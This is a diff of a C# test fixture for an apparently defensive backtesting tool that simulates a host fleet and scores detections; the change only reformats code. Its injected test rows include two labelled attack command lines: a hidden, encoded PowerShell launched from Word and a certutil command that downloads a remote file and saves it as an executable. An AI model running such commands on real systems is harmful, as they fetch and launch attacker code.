@@ -6,7 +6,10 @@ using Changeling.TestSupport;
 
 namespace Changeling.Cli.Tests.Backtest;
 
-/// <summary>A small simulated fleet with two attacks and injected rows of our own making, and the report of its backtest, made once for all tests; files that they add have names of their own.</summary>
+/// <summary>
+/// A small simulated fleet with two attacks and injected rows of our own making, and the report of its backtest, made once for all tests;
+/// files that they add have names of their own.
+/// </summary>
 public sealed class BacktestFleet : IAsyncLifetime
 {
     internal Scratch Folder { get; } = new();
@@ -22,8 +25,20 @@ public sealed class BacktestFleet : IAsyncLifetime
     /// <summary>Two chains of two steps, and a look-alike.</summary>
     internal static byte[] Rows => Encoding.UTF8.GetBytes(string.Join(
         '\n',
-        Row("made/chain", 1, "winword.exe", "powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "2020-01-01T10:00:00Z"),
-        Row("made/chain", 1, "powershell.exe", "certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.txt C:\\Users\\Public\\a.exe", "2020-01-01T10:01:00Z"),
+        Row(
+            "made/chain",
+            1,
+            "winword.exe",
+            "powershell.exe",
+            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+            "2020-01-01T10:00:00Z"),
+        Row(
+            "made/chain",
+            1,
+            "powershell.exe",
+            "certutil.exe",
+            "certutil -urlcache -split -f http://192.0.2.7/a.txt C:\\Users\\Public\\a.exe",
+            "2020-01-01T10:01:00Z"),
         Row("made/unclear", null, "cmd.exe", "unclear.exe", "unclear", "2020-01-01T10:00:00Z"),
         Row("made/agent", 0, "agent.exe", "cmd.exe", "cmd /c ver", null)));
 
@@ -31,9 +46,11 @@ public sealed class BacktestFleet : IAsyncLifetime
     {
         Folder.Write("rows.jsonl", Rows);
         (await Terminal.RunAsync(
-            Folder, "simulate", "--hosts", "7", "--hours", "14", "--attacks", "2", "--format", "mixed", "--inject", "rows.jsonl", "--output", "fleet.jsonl", "--truth", "truth.jsonl")).Succeeded();
+            Folder, "simulate", "--hosts", "7", "--hours", "14", "--attacks", "2", "--format", "mixed", "--inject", "rows.jsonl",
+            "--output", "fleet.jsonl", "--truth", "truth.jsonl")).Succeeded();
         Outcome = (await Terminal.RunAsync(
-            Folder, "backtest", "fleet.jsonl", "--truth", "truth.jsonl", "--emit-after", "6", "--budget", "12/day", "--json", "report.json", "--output", "detections.jsonl")).Succeeded();
+            Folder, "backtest", "fleet.jsonl", "--truth", "truth.jsonl", "--emit-after", "6", "--budget", "12/day", "--json", "report.json",
+            "--output", "detections.jsonl")).Succeeded();
         Report = Json("report.json");
     }
 
@@ -47,7 +64,8 @@ public sealed class BacktestFleet : IAsyncLifetime
 
     private List<JsonElement> Lines(string name) => [.. File.ReadLines(Folder[name]).Select(line => JsonDocument.Parse(line).RootElement)];
 
-    private static string Row(string dataset, int? label, string parent, string child, string commandLine, string? time) => JsonSerializer.Serialize(
+    private static string Row(
+        string dataset, int? label, string parent, string child, string commandLine, string? time) => JsonSerializer.Serialize(
         new Dictionary<string, object?>
         {
             ["dataset"] = dataset,
